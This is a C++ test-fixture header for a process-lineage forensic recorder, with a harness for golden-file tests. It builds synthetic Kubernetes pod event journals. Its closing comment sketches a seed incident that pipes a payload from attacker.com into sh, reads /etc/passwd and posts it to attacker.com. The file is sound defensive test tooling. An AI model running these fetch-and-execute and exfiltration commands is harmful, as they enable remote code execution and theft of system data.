@@ -1,0 +1,218 @@
+#pragma once
+// FixtureJournal: writes real lineage journals (through JournalWriter, the
+// same code `lineage record` uses) from a compact scenario description, and
+// can feed the very same rows straight into a Model for tests that need no
+// SQLite at all.
+//
+//   FixtureJournal fx;                               // boot "b0000000-...", node "node-1"
+//   Proc init = fx.snapshot(1, 0, at(0, 10'000'000), "systemd", "/usr/lib/systemd/systemd", {"/sbin/init"});
+//   Proc sh   = fx.proc(4242, at(1000, 123'456'789));
+//   fx.fork(init, sh, at(1000, 123'456'789));
+//   fx.exec(sh, "/bin/sh", {"sh", "-c", "id"}, at(1000, 200'000'000), kPodCgroup, "my-pod");
+//   fx.connect(sh, "93.184.216.34", 80, at(1001));
+//   fx.exit(sh, at(1002), 0);
+//   fx.write(dir + "/j.db");
+//
+// Times are CLOCK_BOOTTIME nanoseconds. By default the run maps boot
+// 1000 s to 2026-04-22T09:00:00Z (kWall0), so at(1000 + n) is 09:00:00 + n s.
+// Processes are (tgid, start_ns) pairs: give them realistic nanosecond start
+// times (at(1000, 123'456'789)) so the model's clock-tick identity matters.
+//
+// Every event is stored in the order of its time; rows are committed in
+// batches of a few, like the recorder does. The fixture keeps track of what
+// the kernel would report: a forked child inherits comm, cgroup and UTS
+// name; an exec sets comm to the binary's base name (15 bytes); the exec
+// row's real parent is the forker while it lives and the reaper after.
+
+#include <cstdint>
+#include <map>
+#include <optional>
+#include <string>
+#include <vector>
+
+#include "event.h"
+#include "journal.h"
+#include "model.h"
+
+namespace fixture {
+
+using lineage::ProcRef;
+using Proc = lineage::ProcRef;
+
+// 2026-04-22T09:00:00Z in wall-clock ns since the epoch.
+inline constexpr int64_t kWall0 = 1776848400LL * 1'000'000'000LL;
+// Boot-time ns that the default clock sample maps to kWall0.
+inline constexpr uint64_t kBoot0 = 1000ULL * 1'000'000'000ULL;
+
+// Boot-time ns from seconds and nanoseconds.
+constexpr uint64_t at(uint64_t sec, uint64_t nsec = 0) { return sec * 1'000'000'000ULL + nsec; }
+
+// A systemd-driver cgroup v2 path of a container in a burstable pod.
+std::string pod_cgroup(const std::string& pod_uid_dashed, const std::string& container_id_hex64);
+
+struct RunOptions {
+    std::string boot_id = "b0000000-0000-4000-8000-000000000001";
+    std::string node = "node-1";
+    int64_t clk_tck = 100;
+    uint64_t started_ns = at(950);   // the recorder started here
+    uint64_t stopped_ns = at(1200);  // ...and stopped cleanly here (09:03:20Z by default)
+    bool clean_stop = true;          // false: no run_stops row (killed recorder)
+    uint64_t clock_boot_ns = kBoot0; // clock sample: this boot ns ...
+    int64_t clock_wall_ns = kWall0;  // ... is this wall-clock time
+    int64_t argv_cap = 131072;
+};
+
+// Optional details of an exec; the defaults are what the fixture tracked.
+struct ExecOpts {
+    std::optional<std::string> cgroup;     // default: inherited
+    std::optional<std::string> nodename;   // default: inherited
+    std::optional<std::string> comm;       // default: base name of binary, 15 bytes
+    std::optional<uint32_t> nspid;         // default: inherited (tgid outside any pod)
+    std::optional<Proc> parent;            // default: the forker, or the reaper once it exited
+    uint32_t uid = 0, gid = 0, euid = 0;
+    uint32_t truncated = 0;                // lineage::kArgvTruncated | ...
+    std::optional<std::string> raw_argv;   // exact NUL-separated bytes instead of args
+};
+
+class FixtureJournal {
+public:
+    explicit FixtureJournal(RunOptions run = {});
+
+    const RunOptions& run() const { return run_; }
+    // Wall-clock ns of a boot time, through this run's clock sample.
+    int64_t wall(uint64_t boot_ns) const;
+
+    // Names a process; nothing is recorded. Use it for fork children.
+    static Proc proc(uint32_t tgid, uint64_t start_ns) { return Proc{tgid, start_ns}; }
+
+    // A process already running when the run started, as /proc showed it.
+    // start_ns is cut to the clock tick, as /proc only gives ticks.
+    Proc snapshot(uint32_t tgid, uint32_t ppid, uint64_t start_ns, const std::string& comm, const std::string& exe,
+                  const std::vector<std::string>& argv, const std::string& cgroup = "/system.slice",
+                  const std::string& nodename = "node-1", uint32_t nspid = 0);
+
+    // The process that adopts orphans (exec rows name it as real parent once
+    // the forker has exited). Default: PID 1 started at boot 0.5 s.
+    void set_reaper(Proc reaper) { reaper_ = reaper; }
+
+    void fork(Proc parent, Proc child, uint64_t t);
+    void exec(Proc p, const std::string& binary, const std::vector<std::string>& argv, uint64_t t,
+              ExecOpts opts = {});
+    // Shorthand with the cgroup and UTS host name the scenarios use.
+    void exec(Proc p, const std::string& binary, const std::vector<std::string>& argv, uint64_t t,
+              const std::string& cgroup, const std::string& nodename, std::optional<uint32_t> nspid = {});
+    void exit(Proc p, uint64_t t, int code = 0, int signal = 0, bool core_dumped = false);
+    void connect(Proc p, const std::string& daddr, uint16_t dport, uint64_t t, bool established = true,
+                 const std::string& saddr = "10.244.1.17", uint16_t sport = 43512, int family = 4);
+    void loss(uint64_t from_ns, uint64_t to_ns, int64_t count, const std::string& reason = "ringbuf_full");
+    void pod(const std::string& pod_uid, const std::string& name, const std::string& ns,
+             const std::string& source = "log-dir");
+    // What the kernel calls a process that no fork, exec or snapshot row
+    // introduced (used by its exit row, and by exec rows naming it as parent).
+    void comm(Proc p, const std::string& comm) { track(p).comm = comm; }
+
+    // Writes the journal (the file must not exist). Throws std::runtime_error
+    // on any JournalWriter error, so a broken fixture fails loudly.
+    void write(const std::string& path) const;
+    // Feeds the same rows into a model (call model.finish() yourself when
+    // combining several fixtures; build_model() does it for one).
+    void load_into(lineage::Model& model, const std::string& journal_name = "fixture.db") const;
+    lineage::Model build_model(const std::string& journal_name = "fixture.db") const;
+
+private:
+    struct Tracked {
+        std::string comm, cgroup, nodename;
+        uint32_t nspid = 0;
+        std::optional<Proc> forker;
+        std::optional<uint64_t> exited_at;
+    };
+    struct LossRow {
+        uint64_t from_ns, to_ns;
+        int64_t count;
+        std::string reason;
+    };
+    struct PodRow {
+        std::string uid, name, ns, source;
+    };
+    // One journal row in time order: an event or a loss.
+    struct Row {
+        uint64_t time_ns;
+        size_t seq;
+        std::optional<lineage::Event> event;
+        std::optional<LossRow> loss;
+    };
+
+    Tracked& track(Proc p);
+    static std::string key(Proc p);
+    void push(uint64_t t, lineage::Event e);
+
+    RunOptions run_;
+    Proc reaper_{1, 500'000'000};
+    std::map<std::string, Tracked> procs_;
+    std::vector<lineage::SnapshotRow> snapshot_;
+    std::vector<Row> rows_;
+    std::vector<PodRow> pods_;
+    size_t seq_ = 0;
+};
+
+// ---------------------------------------------------------------- harness
+
+// A private temporary directory, removed with everything in it.
+class TempDir {
+public:
+    TempDir();
+    ~TempDir();
+    TempDir(const TempDir&) = delete;
+    TempDir& operator=(const TempDir&) = delete;
+    const std::string& path() const { return path_; }
+    std::string operator/(const std::string& name) const { return path_ + "/" + name; }
+
+private:
+    std::string path_;
+};
+
+struct RunResult {
+    int status = -1;  // exit code, or 128 + signal
+    std::string out, err;
+};
+
+// Environment changes for one run: a value sets, nullopt removes.
+using EnvEdits = std::map<std::string, std::optional<std::string>>;
+
+// Runs command[0] (a path, not searched in PATH) with command as argv, in
+// directory cwd, stdin /dev/null, stdout a pipe (as with popen) and stderr
+// a file, both captured: never a TTY. The environment is the test's own minus NO_COLOR, with
+// TZ=UTC, then edits.
+RunResult run_process(const std::vector<std::string>& command, const std::string& cwd, const EnvEdits& edits = {});
+
+// run_process of LINEAGE_BIN followed by args.
+RunResult run_lineage(const std::vector<std::string>& args, const std::string& cwd, const EnvEdits& edits = {});
+
+// testdata/golden/<name> in the source tree.
+std::string golden_path(const std::string& name);
+bool update_goldens();  // LINEAGE_UPDATE_GOLDEN=1
+std::string read_file(const std::string& path);
+void write_file(const std::string& path, const std::string& bytes);
+// With LINEAGE_UPDATE_GOLDEN=1 writes actual as the golden and returns "".
+// Otherwise returns "" when actual equals the golden byte for byte, else a
+// readable description of the first difference (or of a missing file).
+std::string golden_mismatch(const std::string& name, const std::string& actual);
+
+// ---------------------------------------------------------------- the seed incident
+
+inline const std::string kIncidentPodUid = "7c9e6679-7425-40de-944b-e07fc1f90ae7";
+inline const std::string kIncidentPodName = "my-app-6d4f9-xk2p1";
+inline const std::string kIncidentNamespace = "production";
+inline const std::string kIncidentContainer = "4f1a2b3c4d5e6f708192a3b4c5d6e7f8091a2b3c4d5e6f708192a3b4c5d6e7f8";
+inline const std::string kIncidentSince = "2026-04-22T09:00:00Z";
+inline const std::string kIncidentUntil = "2026-04-22T09:05:00Z";
+
+// my-app (18201, forked by containerd-shim 18150 outside the pod)
+//   -> sh -c "curl http://attacker.com/payload.sh | sh" (18293)
+//     -> sh payload.sh (18294)
+//       -> cat /etc/passwd (18295)
+//       -> curl http://attacker.com/exfil -d @/etc/passwd (18296), connect 93.184.216.34:80
+// plus a host process (journalctl, 19000) in the same window, outside the pod.
+FixtureJournal incident_fixture();
+
+}  // namespace fixture
